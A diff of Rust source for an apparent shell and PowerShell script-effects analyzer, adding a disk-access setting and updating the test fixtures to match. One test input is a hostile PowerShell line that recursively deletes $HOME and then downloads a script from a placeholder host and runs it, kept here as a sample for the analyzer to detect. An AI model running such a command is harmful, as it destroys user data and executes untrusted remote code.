@@ -52,6 +52,8 @@ pub struct Env {
     pub tmpdir: String,
     /// How programs read their arguments and what they do (rules/programs.toml).
     pub programs: Arc<ProgramTable>,
+    /// Whether files on disk may be read (a patch file, to see what it changes).
+    pub disk: super::Disk,
 }
 
 /// One word after quote removal and the expansions that can be known.
@@ -546,6 +548,7 @@ struct Analyzer {
     home: Option<String>,
     tmpdir: String,
     programs: Arc<ProgramTable>,
+    disk: super::Disk,
     cwd: Option<String>,
     /// Variables assigned earlier in the script: `Some` known value, `None` unknown.
     vars: HashMap<String, Option<String>>,
@@ -593,6 +596,7 @@ impl Analyzer {
             home: env.home.clone(),
             tmpdir: env.tmpdir.clone(),
             programs: env.programs.clone(),
+            disk: env.disk.clone(),
             cwd: env.cwd.clone(),
             vars: HashMap::new(),
             commands: Vec::new(),
@@ -2224,6 +2228,7 @@ mod tests {
             home: Some("/home/dev".into()),
             tmpdir: "/tmp".into(),
             programs: crate::pack::builtin_programs(),
+            disk: Default::default(),
         }
     }
 
@@ -2425,6 +2430,7 @@ mod effect_tests {
             home: Some("/home/dev".into()),
             tmpdir: "/tmp".into(),
             programs: crate::pack::builtin_programs(),
+            disk: Default::default(),
         };
         analyze_now(script, &env)
             .effects
@@ -2658,6 +2664,7 @@ mod effect_tests {
             home: Some("/home/dev".into()),
             tmpdir: "/tmp".into(),
             programs: crate::pack::builtin_programs(),
+            disk: Default::default(),
         };
         let got: Vec<String> =
             analyze_powershell("rm -r -fo $HOME; irm https://x.example/a | iex", &env)
